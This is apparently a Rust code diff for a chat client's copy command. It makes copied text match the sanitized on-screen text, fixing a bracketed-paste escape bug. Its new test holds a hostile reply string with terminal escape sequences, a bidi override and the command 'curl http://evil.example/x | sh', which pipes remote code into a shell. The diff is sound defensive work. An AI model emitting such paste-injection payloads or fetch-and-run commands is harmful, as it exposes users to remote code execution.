@@ -9,7 +9,10 @@
 //! over [`MAX_TEXT_BYTES`] is refused, saying so, rather than cut.
 //!
 //! What to copy: the last reply, the last code block of the last reply that has one, or
-//! message N — the `#N` in a message's header.
+//! message N — the `#N` in a message's header. What is copied is what the screen shows:
+//! scrubbed as the screen is (`core::sanitize`: escape sequences, other controls and bidi
+//! controls out; newlines and tabs kept). A reply's raw `ESC [ 201 ~` ended a bracketed
+//! paste early, so pasting it into a shell ran the line after it.
 
 use crate::core::message::MessageId;
 use crate::core::prose::lines_with_code;
@@ -50,6 +53,20 @@ pub fn parse(arg: &str) -> Result<CopyTarget, String> {
 pub struct Picked {
     pub text: String,
     pub what: String,
+    /// Characters the scrub took out (the confirmation says so).
+    pub removed: usize,
+}
+
+impl Picked {
+    /// `text` as the screen shows it.
+    fn shown(text: &str, what: impl Into<String>) -> Picked {
+        let clean = crate::core::sanitize::sanitize(text);
+        Picked {
+            removed: text.chars().count() - clean.chars().count(),
+            text: clean.into_owned(),
+            what: what.into(),
+        }
+    }
 }
 
 fn is_reply(e: &Entry) -> bool {
@@ -71,30 +88,21 @@ pub fn pick(entries: &[Entry], target: CopyTarget) -> Result<Picked, String> {
                 } => "the reply so far",
                 _ => "the last reply",
             };
-            Ok(Picked {
-                text: e.text.clone(),
-                what: what.to_string(),
-            })
+            Ok(Picked::shown(&e.text, what))
         }
         CopyTarget::LastCode => entries
             .iter()
             .rev()
             .filter(|e| is_reply(e))
             .find_map(|e| last_code_block(&e.text))
-            .map(|text| Picked {
-                text,
-                what: "the last code block".to_string(),
-            })
+            .map(|text| Picked::shown(&text, "the last code block"))
             .ok_or_else(|| "no reply has a code block".to_string()),
         CopyTarget::Message(id) => {
             let e = entries
                 .iter()
                 .find(|e| e.id == Some(id))
                 .ok_or_else(|| format!("there is no message #{}", id.0))?;
-            Ok(Picked {
-                text: e.text.clone(),
-                what: format!("message #{}", id.0),
-            })
+            Ok(Picked::shown(&e.text, format!("message #{}", id.0)))
         }
     }
 }
@@ -216,6 +224,23 @@ mod tests {
         );
         assert_eq!(last_code_block("```\n```").as_deref(), Some(""));
         assert_eq!(last_code_block("no fences"), None);
+    }
+
+    /// The issue's reply (#36): the screen showed it scrubbed, the clipboard got the raw
+    /// one, whose `ESC [ 201 ~` ends a bracketed paste early.
+    #[test]
+    fn what_is_copied_is_what_is_shown() {
+        let raw = "ls -la\u{1b}[201~\u{1b}[2K\rcurl http://evil.example/x | sh\u{202E}\tend\r\n";
+        let t = vec![msg(
+            2,
+            Entry::assistant(raw, ReplyState::Complete, Utc::now()),
+        )];
+        let p = pick(&t, CopyTarget::LastReply).unwrap();
+        assert_eq!(p.text, "ls -lacurl http://evil.example/x | sh\tend\n");
+        assert_eq!(p.removed, raw.chars().count() - p.text.chars().count());
+        assert!(p.removed > 0);
+        let clean = pick(&transcript(), CopyTarget::LastReply).unwrap();
+        assert_eq!(clean.removed, 0);
     }
 
     #[test]
